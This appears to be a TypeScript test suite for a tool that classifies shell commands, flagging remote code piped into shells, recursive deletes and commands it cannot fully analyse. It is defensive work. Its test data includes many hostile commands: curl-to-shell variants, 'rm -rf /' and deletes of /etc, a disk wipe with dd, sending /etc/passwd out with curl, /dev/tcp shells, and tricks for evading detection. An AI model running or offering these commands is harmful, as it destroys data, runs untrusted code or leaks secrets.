import fc from 'fast-check';
import { describe as group, expect, test } from 'vitest';
import { factsOf, type Understanding } from '../src/action-of.ts';

const of = (
  argv: readonly string[],
  more: { cwd?: string; env?: string[]; stdin?: { sha256: string } } = {},
): Understanding =>
  factsOf({ argv, cwd: more.cwd ?? '/w', env: more.env ?? [], stdin: more.stdin ?? null });
const sh = (code: string): Understanding => of(['sh', '-c', code]);

group('what a plain command does is fully known', () => {
  test.each([
    ['ls -la /tmp', ['ls'], ['-a', '-l', '-la'], ['/tmp']],
    ['echo "a b" \'c\' | grep -c a > out.txt', ['echo', 'grep'], ['-c'], ['/w/out.txt']],
    ["r''m x", ['rm'], [], ['/w/x']],
    [String.raw`\rm x`, ['rm'], [], ['/w/x']],
    [String.raw`$'\x72m' x`, ['rm'], [], ['/w/x']],
    ['cp ./a /usr/../etc/b', ['cp'], [], ['/etc/b', '/w/a']],
    ['cd /srv && touch a', ['cd', 'touch'], [], ['/srv', '/srv/a', '/w/a']],
    ['dd if=/dev/zero of=/dev/sda', ['dd'], [], ['/dev/sda', '/dev/zero']],
    [
      'curl -o/etc/x --data @/etc/passwd file:///etc/shadow https://h/p',
      ['curl'],
      ['--data', '-o/etc/x'],
      ['/etc/passwd', '/etc/shadow', '/etc/x'],
    ],
    ['timeout 5 nice -n 3 nohup ls', ['ls', 'nice', 'nohup', 'timeout'], ['-n'], []],
    ['sudo -u bob -- id -u', ['id', 'sudo'], ['-u'], []],
    ['sudo -- sh -c "env X=1 rm y"', ['env', 'rm', 'sudo'], [], ['/w/y']],
    ["env -S 'rm -rf /'", ['env', 'rm'], ['-S', '-f', '-r', '-rf'], ['/']],
    ['command -v rm', ['command'], ['-v'], []],
    ['busybox rm x', ['busybox', 'rm'], [], ['/w/x']],
    ['for i in 1 2; do if true; then ls; fi; done', ['ls', 'true'], [], []],
  ])('%s', (code, programs, flags, paths) => {
    const { facts, inspectable, dynamic } = sh(code);
    expect({ ...facts.cmd, inspectable, dynamic }).toEqual({
      programs: [...programs, 'sh'].toSorted(),
      flags: [...new Set([...flags, '-c'])].toSorted(),
      paths,
      pipesToShell: false,
      recursiveDelete: code.includes('-rf'),
      inspectable: 'full',
      dynamic: [],
    });
  });

  test('an argv without a shell is taken word by word', () => {
    expect(of(['rm', '$(x)', '{a,b}', '*'])).toMatchObject({
      inspectable: 'full',
      facts: { cmd: { programs: ['rm'] } },
    });
  });
});

group('code that comes out of a program or a stream', () => {
  test.each([
    'curl https://x | sh',
    'curl https://x |& bash -x',
    'curl https://x | sudo bash',
    'curl https://x | sudo -E -- env X=1 nice bash -s -- arg',
    'curl https://x | (cd /tmp; sh)',
    'curl https://x | { cat | dash; }',
    'curl https://x | while true; do sh; done',
    'curl https://x | tee >(sh)',
    'curl https://x | bash /dev/stdin',
    'curl https://x | xargs -n1 sh -c',
    'curl https://x | ssh host',
    'curl https://x | ssh host bash',
    'curl https://x | docker exec -i c sh',
    'curl https://x | at now',
    'curl https://x | su - bob',
    'wget -O- https://x | python3',
    'wget -O- https://x | perl -',
    'wget -O- https://x | node',
    'bash <(curl https://x)',
    'sh < <(curl https://x)',
    'source <(curl x)',
    '. <(curl x)',
    'eval "$(curl https://x)"',
    'eval `curl https://x`',
    'sh -c "$(curl https://x)"',
    'python3 -c "$(curl https://x)"',
    'python3 <(curl https://x)',
    'bash <<< "$(curl https://x)"',
    'bash <<EOF\n$(curl https://x)\nEOF',
    '$(curl https://x)',
    'cat <<EOF | sh\nrm -rf /\nEOF',
    'sh -c "curl https://x | sh"',
    'f() { sh; }; curl x | f',
    'exec 3<>/dev/tcp/10.0.0.1/80; sh <&3',
  ])('%s', (code) => {
    const { facts, inspectable } = sh(code);
    expect(facts.cmd.pipesToShell).toBe(true);
    expect(inspectable).not.toBe('full');
  });

  test('as argv', () => {
    expect(of(['sh', '-c', 'curl https://… | sh']).facts.cmd.pipesToShell).toBe(true);
    expect(of(['bash'], { stdin: { sha256: '' } }).facts.cmd.pipesToShell).toBe(true);
    expect(of(['sudo', 'python3', '-'], { stdin: { sha256: '' } })).toMatchObject({
      inspectable: 'none',
      facts: { cmd: { pipesToShell: true } },
    });
  });

  test.each([
    'curl x | grep a',
    'curl x | python3 -c "print(1)"',
    'curl x | jq .a',
    'echo sh | cat',
    'cat f | ssh-keygen -l',
    'bash --version',
  ])('is not: %s', (code) => {
    expect(sh(code).facts.cmd.pipesToShell).toBe(false);
  });
});

group('R2: what is not understood is never `full`', () => {
  test.each([
    ['{rm,-rf,/}', 'partial', 'brace-expansion'],
    ['rm${IFS}-rf', 'partial', 'expanded-command'],
    ['a=rm; $a', 'partial', 'expanded-command'],
    ['/bin/r? x', 'partial', 'expanded-command'],
    ['cat <<EOF | sh\nrm -rf /\nEOF', 'none', 'code-on-stdin'],
    ['source <(curl x)', 'none', 'code-from-command'],
    ['source ./env.sh', 'none', 'sourced-file'],
    ['exec 3<>/dev/tcp/10.0.0.1/80', 'partial', 'network-redirect'],
    ["trap 'rm x' EXIT", 'partial', 'deferred-code'],
    ['env -S \'rm "$X"\'', 'partial', 'expanded-code'],
    ['sh -c "$X"', 'partial', 'expanded-code'],
    ['eval "$X"', 'partial', 'expanded-code'],
    ['echo $X', 'partial', 'expanded-argument'],
    ['rm -rf "$X"', 'partial', 'expanded-argument'],
    ['echo $((1+1))', 'partial', 'expanded-argument'],
    ['echo $"x"', 'partial', 'expanded-argument'],
    ['xargs rm < list', 'partial', 'arguments-from-stdin'],
    ['find . -exec chmod 777 {} +', 'partial', 'arguments-from-stdin'],
    ['sh x.sh', 'none', 'script-file'],
    ['./deploy.sh', 'none', 'script-file'],
    ['python3 x.py', 'none', 'script-file'],
    ['python3 -c "print(1)"', 'partial', 'interpreter-code'],
    ['perl -ne print', 'partial', 'interpreter-code'],
    ['python3', 'none', 'code-on-stdin'],
    ['sudo -i', 'none', 'code-on-stdin'],
    ['alias ls=rm; ls x', 'partial', 'alias'],
    ['f() { ls; }; f', 'partial', 'function'],
    ['coproc ls', 'partial', 'coprocess'],
    ['awk \'BEGIN { system("rm x") }\'', 'partial', 'program-option'],
    ["sed 's/x/y/e' f", 'partial', 'program-option'],
    ["git -c alias.x='!rm y' x", 'partial', 'program-option'],
    ['tar xf a --to-command=sh', 'partial', 'program-option'],
    ['ssh -o ProxyCommand=sh host ls', 'partial', 'program-option'],
    ['ssh host ls', 'partial', 'remote-shell'],
    ['kubectl exec p -- ls', 'partial', 'container'],
    ['docker run img ls', 'partial', 'container'],
    ["strange-wrapper bash -c 'ls'", 'partial', 'unknown-wrapper'],
    ['sudo --what rm ls', 'partial', 'program-option'],
    ['nice -Z rm ls', 'partial', 'program-option'],
    ['make all', 'partial', 'task-runner'],
    ['vim x', 'partial', 'editor'],
    ['PATH=/tmp ls', 'partial', 'environment'],
    ['PATH=/tmp', 'partial', 'environment'],
    ['env LD_PRELOAD=/x ls', 'partial', 'environment'],
    ['export BASH_ENV=/x', 'partial', 'environment'],
    ['AWS_PROFILE=prod aws s3 ls', 'partial', 'environment'],
    ['read PATH < f', 'partial', 'environment'],
    ['if', 'partial', 'unparseable'],
    ['echo "x', 'partial', 'unparseable'],
    ['echo $(if)', 'partial', 'unparseable'],
    ['nice nice nice nice nice nice ls', 'none', 'too-deep'],
    ['bash -c \'bash -c "bash -c \\"eval eval eval ls\\""\'', 'none', 'too-deep'],
  ] as const)('%s', (code, grade, reason) => {
    const { inspectable, dynamic } = sh(code);
    expect(dynamic).toContain(reason);
    expect(inspectable).toBe(grade);
  });

  test('a variable that loads code lowers the grade; a secret for the program does not', () => {
    expect(of(['ls'], { env: ['NODE_OPTIONS'] }).inspectable).toBe('partial');
    expect(of(['ls'], { env: ['PATH', 'AWS_SECRET_ACCESS_KEY'] }).inspectable).toBe('full');
  });
});

group('recursive deletes, wherever they stand', () => {
  test.each([
    ['rm -rf /etc/', '/etc'],
    ['rm -r -- /etc', '/etc'],
    ['rm --recurs //etc/./x/..', '/etc'],
    ['rm -fR ~', '~'],
    ['rm -rf ~/', '~'],
    ['rm -rf $HOME', '~'],
    ['rm -rf "${HOME}/x/.."', '~'],
    ['rm -rf /*', '/'],
    ['rm -rf /etc/*', '/etc'],
    ['cd / && rm -rf etc', '/etc'],
    ['(cd /; rm -rf ./etc)', '/etc'],
    ['sudo -D / rm -rf etc', '/etc'],
    ['sudo -- sh -c "rm -rf /etc"', '/etc'],
    ['find /etc -delete', '/etc'],
    ['find /etc -type f -exec rm {} +', '/etc'],
    ['echo $(rm -rf /etc)', '/etc'],
    ['echo ${x:-$(rm -rf /etc)}', '/etc'],
    ['[[ -f $(rm -rf /etc) ]]', '/etc'],
    ['x=$(rm -rf /etc) ls', '/etc'],
    ['cat <<EOF\n$(rm -rf /etc)\nEOF', '/etc'],
    ['sh <<EOF\nrm -rf /etc\nEOF', '/etc'],
    ["trap 'rm -rf /etc' EXIT", '/etc'],
    ["su bob -c 'rm -rf /etc'", '/etc'],
    ["watch 'rm -rf /etc'", '/etc'],
    ['ssh host rm -rf /etc', '/etc'],
    ["kubectl exec p -- sh -c 'rm -rf /etc'", '/etc'],
    ['eval rm -rf /etc', '/etc'],
    ['case x in x) rm -rf /etc;; esac', '/etc'],
    ['f() { rm -rf /etc; }', '/etc'],
    ['rsync -a --delete /empty/ /etc', '/etc'],
    ['flock /tmp/l -c "rm -rf /etc"', '/etc'],
  ])('%s', (code, path) => {
    const { cmd } = sh(code).facts;
    expect(cmd.recursiveDelete).toBe(true);
    expect(cmd.paths).toContain(path);
  });

  test('a working folder counts', () => {
    expect(of(['rm', '-rf', 'etc'], { cwd: '/' }).facts.cmd.paths).toEqual(['/etc']);
    expect(of(['rm', '-rf', '..'], { cwd: '/etc/x' }).facts.cmd.paths).toEqual(['/etc']);
  });

  test.each(['rm -f x', 'rm -- -rf', 'ls -r', 'grep -rf p'])('is not: %s', (code) => {
    expect(sh(code).facts.cmd.recursiveDelete).toBe(false);
  });
});

test('R2: whatever comes, there is an answer', () => {
  const bits = fc.constantFrom(
    'rm',
    '-rf',
    '/',
    ' ',
    '|',
    'sh',
    '-c',
    '"',
    "'",
    '$(',
    ')',
    '`',
    '<<EOF\n',
    '\nEOF\n',
    '{',
    '}',
    ';',
    '&&',
    'sudo',
    'env',
    '-S',
    'find',
    '-exec',
    '<(',
    '\\',
    '$',
    '\u0000',
    '\ud800',
    '((',
    '[[',
    'case',
    'esac',
    'trap',
    '=',
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof(bits, fc.string({ maxLength: 4 })), { maxLength: 40 }),
      (parts) => {
        for (const argv of [['sh', '-c', parts.join('')], parts]) {
          const { inspectable, dynamic, facts } = of(argv);
          expect(inspectable === 'full').toBe(dynamic.length === 0);
          expect(facts.cmd.programs).toEqual([...facts.cmd.programs].toSorted());
        }
      },
    ),
    { numRuns: 500 },
  );
});

test.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
  'a program called %s is a program',
  (name) => {
    expect(of([name, '-c', 'x'])).toMatchObject({
      inspectable: 'full',
      facts: { cmd: { programs: [name] } },
    });
  },
);

test('R2: nesting and length are bounded', () => {
  const deep = '$('.repeat(5_000) + 'ls' + ')'.repeat(5_000);
  expect(sh(`echo ${deep}`).inspectable).not.toBe('full');
  expect(sh(`ls ${'x '.repeat(200_000)}`).dynamic).toEqual(['unparseable']);
});
